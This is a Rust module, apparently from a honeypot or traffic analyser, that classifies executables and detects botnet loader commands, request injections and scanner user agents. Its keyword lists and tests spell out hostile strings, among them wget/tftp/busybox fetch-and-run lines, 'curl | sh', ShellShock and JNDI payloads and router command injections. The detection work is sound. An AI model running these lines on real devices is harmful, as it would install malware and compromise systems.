//! Code and loaders' commands: what a program, a script or a command line looks like.
//!
//! Guarantees: a rule answers with its own name, never with what it matched; one pass over bounded input.

use aho_corasick::AhoCorasick;
use memchr::memmem;
use model::TransferKind;
use std::sync::OnceLock;

/// How much of a body's beginning [`program`] wants to see.
pub(super) const HEAD: usize = 1024;

/// What a body's beginning is: `None` while more is needed (never when `whole`), else a program or `Some(None)`.
pub(super) fn program(head: &[u8], whole: bool) -> Option<Option<(TransferKind, &'static str)>> {
    let found = |kind, what| Some(Some((kind, what)));
    let enough = |length: usize| whole || head.len() >= length;
    match head {
        [0x7f, b'E', b'L', b'F', class, data, ..] if matches!(class, 1 | 2) && matches!(data, 1 | 2) => {
            if enough(20) {
                found(TransferKind::Elf, machine(head, *data == 2))
            } else {
                None
            }
        }
        [b'd', b'e', b'x', b'\n', b'0', ..] => found(TransferKind::Executable, "Android program (dex)"),
        [0xfe, 0xed, 0xfa, 0xce | 0xcf, ..] | [0xce | 0xcf, 0xfa, 0xed, 0xfe, ..] => {
            found(TransferKind::Executable, "macOS program (Mach-O)")
        }
        [b'M', b'Z', ..] => {
            let dos = contains(head, b"This program ");
            let offset =
                head.get(0x3c..0x3e).and_then(|at| at.first_chunk::<2>()).map(|at| u16::from_le_bytes(*at));
            let signed = offset
                .is_some_and(|at| head.get(usize::from(at)..).is_some_and(|b| b.starts_with(b"PE\0\0")));
            if dos || signed {
                found(TransferKind::Executable, "Windows program (PE)")
            } else if enough(HEAD) {
                Some(None)
            } else {
                None
            }
        }
        []
        | [0x7f]
        | [0x7f, b'E']
        | [0x7f, b'E', b'L']
        | [0x7f, b'E', b'L', b'F']
        | [0x7f, b'E', b'L', b'F', 1 | 2]
        | [b'M']
        | [0xfe | 0xce | 0xcf]
        | [0xfe, 0xed]
        | [0xfe, 0xed, 0xfa]
        | [0xce | 0xcf, 0xfa]
        | [0xce | 0xcf, 0xfa, 0xed]
        | [b'd']
        | [b'd', b'e']
        | [b'd', b'e', b'x']
        | [b'd', b'e', b'x', b'\n']
            if !whole =>
        {
            None
        }
        [b'<' | b'{' | b'[', ..] => Some(None),
        [b'#' | b'a'..=b'z' | b'/' | b'A'..=b'Z' | b'\n' | b' ', ..] => script(head, whole),
        _ => Some(None),
    }
}

fn script(head: &[u8], whole: bool) -> Option<Option<(TransferKind, &'static str)>> {
    if head.iter().take(64).any(|&byte| byte != b'\t' && byte != b'\n' && byte != b'\r' && byte < b' ') {
        return Some(None);
    }
    let fetches = FETCHERS.iter().any(|fetcher| contains(head, fetcher));
    let runs = [&b"chmod "[..], b"./", b"sh ", b"| sh", b"|sh"].iter().any(|run| contains(head, run));
    let shell = head.starts_with(b"#!");
    let places = [&b"/tmp"[..], b"/var/run", b"/dev/shm", b"/mnt"].iter().any(|place| contains(head, place));
    if fetches && runs && (shell || (places && contains(head, b"chmod "))) {
        Some(Some((TransferKind::Script, "shell script that fetches and runs programs")))
    } else if whole || head.len() >= HEAD {
        Some(None)
    } else {
        None
    }
}

const FETCHERS: [&[u8]; 5] = [b"wget ", b"curl ", b"tftp ", b"ftpget ", b"busybox "];

fn machine(head: &[u8], big_endian: bool) -> &'static str {
    let number = match head.get(18..20) {
        Some([a, b]) if big_endian => u16::from_be_bytes([*a, *b]),
        Some([a, b]) => u16::from_le_bytes([*a, *b]),
        _ => 0,
    };
    match number {
        2 | 18 | 43 => "ELF program (SPARC)",
        3 => "ELF program (x86)",
        4 => "ELF program (m68k)",
        8 | 10 => "ELF program (MIPS)",
        20 | 21 => "ELF program (PowerPC)",
        40 => "ELF program (ARM)",
        42 => "ELF program (SuperH)",
        62 => "ELF program (x86-64)",
        93 | 195 => "ELF program (ARC)",
        183 => "ELF program (ARM 64)",
        243 => "ELF program (RISC-V)",
        _ => "ELF program",
    }
}

/// Words of which every rule for command lines needs one; most text has none.
const LOADER_WORDS: [&str; 11] =
    ["wget", "curl", "tftp", "ftpget", "busybox", "chmod", "base64", "\\x", "\\177", "dd bs", "while read"];
/// The same for the rules about injected commands.
const INJECTION_WORDS: [&str; 17] = [
    "wget", "curl", "tftp", "ftpget", "busybox", "/bin/", "chmod", "telnetd", "rm -rf", "nc ", "cd /",
    "sh -c", "killall", "() {", "${", "$(", "`",
];

/// One pass that finds whether any of the words stands in a text.
struct AnyOf(OnceLock<Option<AhoCorasick>>, &'static [&'static str]);

static LOADERS: AnyOf = AnyOf(OnceLock::new(), &LOADER_WORDS);
static INJECTIONS: AnyOf = AnyOf(OnceLock::new(), &INJECTION_WORDS);

impl AnyOf {
    fn is_in(&self, text: &[u8]) -> bool {
        let words = self.0.get_or_init(|| AhoCorasick::new(self.1).ok());
        words.as_ref().is_none_or(|words| words.is_match(text))
    }
}

/// The rule by which a shell's command line is a loader's, if any.
#[must_use]
pub fn loader_command(line: &[u8]) -> Option<&'static str> {
    let has = |part: &[u8]| contains(line, part);
    if line.len() < 6 || !LOADERS.is_in(line) {
        return None;
    }
    if has(b"\\x7f\\x45\\x4c\\x46") || has(b"\\x7fELF") || has(b"\\177\\105\\114\\106") || has(b"\\177ELF") {
        return Some("program written by echo");
    }
    if has(b"echo ") && (memmem::find_iter(line, b"\\x").count() >= 12) && has(b">") {
        return Some("bytes written by echo");
    }
    if has(b"base64") && (has(b"-d") || has(b"--decode")) && pipes_to_shell(line) {
        return Some("decoded text run by a shell");
    }
    let url = has(b"http://") || has(b"https://") || has(b"ftp://");
    if (word(line, b"wget") || word(line, b"curl")) && pipes_to_shell(line) {
        return Some("download run by a shell");
    }
    for (part, rule) in [
        (&b"busybox wget"[..], "fetch by busybox wget"),
        (b"busybox tftp", "fetch by busybox tftp"),
        (b"busybox ftpget", "fetch by busybox ftpget"),
        (b"busybox curl", "fetch by busybox curl"),
    ] {
        if has(part) {
            return Some(rule);
        }
    }
    if applet_probe(line) {
        return Some("busybox applet probe");
    }
    if word(line, b"wget") && (url || has(b" -O") || has(b" -q")) {
        return Some("fetch by wget");
    }
    if word(line, b"curl") && url && (has(b" -o") || has(b" -O") || has(b">") || has(b"chmod")) {
        return Some("fetch by curl");
    }
    if word(line, b"tftp") && (has(b" -g") || has(b" -r") || has(b"get ")) {
        return Some("fetch by tftp");
    }
    if word(line, b"ftpget") && line.len() > 10 {
        return Some("fetch by ftpget");
    }
    if has(b"dd bs=52 count=1") || (has(b"while read i") && has(b"/bin/")) {
        return Some("look at a program's header");
    }
    let loosens = [&b"chmod 777"[..], b"chmod 0777", b"chmod +x", b"chmod 755", b"chmod a+x"]
        .iter()
        .any(|part| has(part));
    if loosens && (has(b"/tmp") || has(b"/var") || has(b"/dev") || has(b"/mnt") || has(b"./") || has(b"*")) {
        return Some("fetched file made executable");
    }
    None
}

/// The same, and whether people who look after machines type such lines, too: what is only fetched, or only made
/// executable.
pub(super) fn typed_command(line: &[u8]) -> Option<(TransferKind, &'static str)> {
    let rule = loader_command(line)?;
    let has = |part: &[u8]| contains(line, part);
    let runs = [&b"chmod "[..], b"; sh ", b";sh ", b"&& sh ", b"&&sh ", b"./"].iter().any(|run| has(run));
    let by_hand = match rule {
        "fetch by wget" | "fetch by curl" | "fetch by tftp" | "fetch by ftpget" => !runs,
        rule => rule == "fetched file made executable",
    };
    Some((if by_hand { TransferKind::TypedFetch } else { TransferKind::LoaderCommand }, rule))
}

/// `busybox ECCHI`: an applet that cannot exist, to see a shell's answer.
fn applet_probe(line: &[u8]) -> bool {
    memmem::find_iter(line, b"busybox ").any(|at| {
        let rest = line.get(at + 8..).unwrap_or_default();
        let name = rest.iter().take_while(|byte| byte.is_ascii_alphanumeric()).count();
        let letters = rest.iter().take(name).filter(|byte| byte.is_ascii_uppercase()).count();
        name >= 3 && letters * 2 > name && !rest.iter().take(name).any(u8::is_ascii_lowercase)
    })
}

fn pipes_to_shell(line: &[u8]) -> bool {
    memchr::memchr_iter(b'|', line).any(|at| {
        let rest = line.get(at + 1..).unwrap_or_default().trim_ascii_start();
        let rest = rest.strip_prefix(b"/bin/").unwrap_or(rest);
        [&b"sh"[..], b"bash", b"ash"].iter().any(|shell| {
            rest.strip_prefix(*shell)
                .is_some_and(|rest| rest.first().is_none_or(|byte| !byte.is_ascii_alphanumeric()))
        })
    })
}

/// The command stands as a word of its own, with something behind it.
fn word(line: &[u8], command: &[u8]) -> bool {
    memmem::find_iter(line, command).any(|at| {
        let before = at.checked_sub(1).and_then(|before| line.get(before));
        let after = line.get(at + command.len());
        before.is_none_or(|byte| !byte.is_ascii_alphanumeric() && !matches!(byte, b'-' | b'_' | b'.'))
            && after.is_some_and(|byte| matches!(byte, b' ' | b'$' | b'\t'))
    })
}

/// The rule by which part of a request (decoded) carries a command, if any.
pub(crate) fn injection(text: &[u8]) -> Option<&'static str> {
    if text.len() < 4 || !INJECTIONS.is_in(text) {
        return None;
    }
    let has = |part: &[u8]| contains(text, part);
    if has(b"() {") && (has(b":;") || has(b":; ") || has(b"};")) {
        return Some("shell function in a header (ShellShock)");
    }
    if memmem::find_iter(text, b"${").any(|at| {
        let rest = text.get(at..at + 64).or_else(|| text.get(at..)).unwrap_or_default();
        let lower = rest.to_ascii_lowercase();
        contains(&lower, b"jndi:") || (contains(&lower, b"${lower:") && contains(&lower, b"j"))
    }) {
        return Some("name lookup in a request (JNDI)");
    }
    if has(b"/bin/busybox") || has(b"busybox wget") || has(b"busybox tftp") {
        return Some("busybox in a request");
    }
    const COMMANDS: [&[u8]; 15] = [
        b"wget",
        b"curl",
        b"tftp",
        b"ftpget",
        b"busybox",
        b"/bin/sh",
        b"/bin/bash",
        b"chmod",
        b"telnetd",
        b"rm -rf",
        b"nc ",
        b"cd /tmp",
        b"cd /var",
        b"sh -c",
        b"killall",
    ];
    for command in COMMANDS {
        if memmem::find_iter(text, command).any(|at| behind_shell_sign(text, at)) {
            return Some("shell command in a request");
        }
    }
    let fetches = [&b"wget http"[..], b"wget${IFS}", b"curl http", b"wget -", b"wget+http", b"curl -"];
    let url = has(b"http://") || has(b"https://") || has(b"tp:");
    if url
        && fetches.iter().any(|fetch| has(fetch))
        && (has(b"/tmp") || has(b"chmod") || has(b"|") || has(b" -O") || has(b";"))
    {
        return Some("fetch command in a request");
    }
    None
}

/// A sign by which shells begin a new command stands before `at`, blanks (also `${IFS}`) between.
fn behind_shell_sign(text: &[u8], at: usize) -> bool {
    let mut before = text.get(..at).unwrap_or_default();
    loop {
        before = match before {
            [rest @ .., b' ' | b'+' | b'\t' | b'"' | b'\''] => rest,
            _ => match before.strip_suffix(b"${IFS}") {
                Some(rest) => rest,
                None => break,
            },
        };
    }
    matches!(before.last(), Some(b';' | b'|' | b'`' | b'\n' | b'&')) && !is_parameter(before)
        || before.ends_with(b"$(")
}

/// `&` alone separates the fields of a form; as a shell's sign it comes doubled or behind a blank.
fn is_parameter(before: &[u8]) -> bool {
    match before {
        [.., b'&' | b' ' | b';' | b'|', b'&'] => false,
        [.., b'&'] => true,
        _ => false,
    }
}

/// The name by which scanners and bots call themselves, where it is one of those.
pub(crate) fn scanner(agent: &[u8]) -> Option<&'static str> {
    static PARTS: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    let parts = PARTS.get_or_init(|| {
        let parts = SCANNERS.iter().map(|(part, _)| part);
        AhoCorasick::builder().ascii_case_insensitive(true).build(parts).ok()
    });
    let found = parts.as_ref()?.find(agent.get(..160).unwrap_or(agent))?;
    SCANNERS.get(found.pattern().as_usize()).map(|(_, name)| *name)
}

/// Part of the agent in lower case, and the name shown.
const SCANNERS: [(&str, &str); 45] = [
    ("zgrab", "zgrab"),
    ("masscan", "masscan"),
    ("nmap scripting", "Nmap"),
    ("nikto", "Nikto"),
    ("sqlmap", "sqlmap"),
    ("dirbuster", "DirBuster"),
    ("gobuster", "gobuster"),
    ("feroxbuster", "feroxbuster"),
    ("wfuzz", "wfuzz"),
    ("fuzz faster", "ffuf"),
    ("nuclei", "nuclei"),
    ("hydra", "Hydra"),
    ("openvas", "OpenVAS"),
    ("nessus", "Nessus"),
    ("wpscan", "WPScan"),
    ("whatweb", "WhatWeb"),
    ("zmeu", "ZmEu"),
    ("morfeus", "Morfeus"),
    ("jorgee", "Jorgee"),
    ("l9explore", "l9explore"),
    ("l9tcpid", "l9tcpid"),
    ("censysinspect", "Censys"),
    ("internetmeasurement", "InternetMeasurement"),
    ("expanse", "Expanse"),
    ("shodan", "Shodan"),
    ("hello, world", "Hello, world (Mirai variants)"),
    ("hello world", "Hello World (Mirai variants)"),
    ("hello-world", "Hello-World (Mirai variants)"),
    ("krebsonsecurity", "KrebsOnSecurity (Mirai variants)"),
    ("hakai/", "Hakai (Mirai variants)"),
    ("gemini/2.0", "Gemini (Mirai variants)"),
    ("snickers-avtech", "Snickers (Mirai variants)"),
    ("shinka", "Shinka (Mirai variants)"),
    ("messiah/", "Messiah (Mirai variants)"),
    ("rift/2.0", "Rift (Mirai variants)"),
    ("yowai", "Yowai (Mirai variants)"),
    ("kayla/1.0", "Kayla (Mirai variants)"),
    ("r00ts3c", "r00ts3c (Mirai variants)"),
    ("ronin/2.0", "Ronin (Mirai variants)"),
    ("b4ckdoor", "B4ckdoor (Mirai variants)"),
    ("ouija_", "Ouija (Mirai variants)"),
    ("lessieback", "LessieBack (Mirai variants)"),
    ("demons/2.0", "Demons (Mirai variants)"),
    ("xtc ", "xTc (Mirai variants)"),
    ("lmao/2.0", "LMAO (Mirai variants)"),
];

pub(super) fn contains(text: &[u8], part: &[u8]) -> bool {
    memmem::find(text, part).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_are_known_by_their_beginning() {
        let mut arm = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0".to_vec();
        assert_eq!(program(&arm, false), Some(Some((TransferKind::Elf, "ELF program (ARM)"))));
        arm.truncate(12);
        assert_eq!(program(&arm, false), None);
        assert_eq!(program(&arm, true), Some(Some((TransferKind::Elf, "ELF program"))));
        let mips = b"\x7fELF\x01\x02\x01\0\0\0\0\0\0\0\0\0\0\x02\0\x08";
        assert_eq!(program(mips, false), Some(Some((TransferKind::Elf, "ELF program (MIPS)"))));
        let kind = |head: &[u8]| program(head, true).unwrap().map(|(kind, _)| kind);
        assert_eq!(
            kind(b"MZ\x90\0...This program cannot be run in DOS mode"),
            Some(TransferKind::Executable)
        );
        assert_eq!(kind(b"dex\n035\0"), Some(TransferKind::Executable));
        assert_eq!(
            kind(b"#!/bin/sh\ncd /tmp; wget http://x/a; chmod 777 a; ./a"),
            Some(TransferKind::Script)
        );
        assert_eq!(
            kind(b"cd /tmp || cd /var/run; wget http://x/a; chmod +x a; ./a"),
            Some(TransferKind::Script)
        );
        for none in [
            &b"#!/bin/sh\necho hello\n"[..],
            b"<html>wget chmod /tmp ./</html>",
            b"MZ plain words",
            b"",
            b"\x27\x05\x19\x56uImage",
            b"hsqs firmware",
            b"\x7fELG",
            b"PK\x03\x04",
        ] {
            assert_eq!(kind(none), None, "{none:?}");
        }
    }

    #[test]
    fn loaders_are_told_from_administrators() {
        for (line, expected) in [
            (&b"/bin/busybox ECCHI"[..], Some("busybox applet probe")),
            (b"/bin/busybox SATORI", Some("busybox applet probe")),
            (b"/bin/busybox cat /proc/mounts; /bin/busybox OWARI", Some("busybox applet probe")),
            (
                b"cd /tmp; wget http://198.51.100.1/bins.sh; chmod 777 bins.sh; sh bins.sh",
                Some("fetch by wget"),
            ),
            (
                b"/bin/busybox wget http://198.51.100.1:80/bot.arm -O - > dvrHelper",
                Some("fetch by busybox wget"),
            ),
            (b"/bin/busybox tftp -g -l dvrHelper -r bot.mips 198.51.100.1", Some("fetch by busybox tftp")),
            (b"tftp 198.51.100.1 -c get tftp1.sh", Some("fetch by tftp")),
            (b"ftpget -v -u anonymous -P 21 198.51.100.1 a a", Some("fetch by ftpget")),
            (b"curl -s http://198.51.100.1/x | sh", Some("download run by a shell")),
            (b"echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > upnp", Some("program written by echo")),
            (
                b"echo -ne '\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09\\x0a\\x0b\\x0c' >> upnp",
                Some("bytes written by echo"),
            ),
            (b"chmod 777 /tmp/dvrHelper", Some("fetched file made executable")),
            (b"busybox", None),
            (b"busybox ls -l", None),
            (b"/bin/busybox --help", None),
            (b"ls -la /tmp", None),
            (b"cat /etc/wgetrc", None),
            (b"wget --version", None),
            (b"echo hello > /tmp/x", None),
            (b"", None),
        ] {
            assert_eq!(loader_command(line), expected, "{}", String::from_utf8_lossy(line));
        }
    }

    #[test]
    fn injected_commands_are_told_from_forms() {
        for (text, expected) in [
            (&b"/cgi-bin/;wget http://x/a"[..], true),
            (b"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm -rf /tmp/*;wget http://x/a", true),
            (b"<NewNTPServer1>`cd /tmp && rm -rf *`</NewNTPServer1>", true),
            (b"<NewStatusURL>$(/bin/busybox wget -g 198.51.100.1)</NewStatusURL>", true),
            (b"() { :; }; /bin/ping -c 1 198.51.100.1", true),
            (b"${jndi:ldap://198.51.100.1/a}", true),
            (b"${${lower:j}ndi:ldap://x}", true),
            (b"/shell?cd /tmp;wget http://x/a", true),
            (b"XWebPageName=diag&dest_host=`busybox wget http://x/a`", true),
            (b"vars[1][]=wget http://x/a -O /tmp/a; sh /tmp/a", true),
            (b"|${IFS}wget${IFS}http://x", true),
            (b"/search?q=how to use wget", false),
            (b"/docs/curl/index.html", false),
            (b"name=chmod&telnetd=off", false),
            (b"a=b&curl=1&wget=2", false),
            (b"Mozilla/5.0 (X11; Linux x86_64)", false),
            (b"curl/7.88.1", false),
        ] {
            assert_eq!(injection(text).is_some(), expected, "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn scanners_are_known_by_name() {
        assert_eq!(scanner(b"Mozilla/5.0 zgrab/0.x"), Some("zgrab"));
        assert_eq!(scanner(b"Hello, World"), Some("Hello, world (Mirai variants)"));
        assert_eq!(scanner(b"Mozilla/5.0 (Windows NT 10.0)"), None);
    }
}
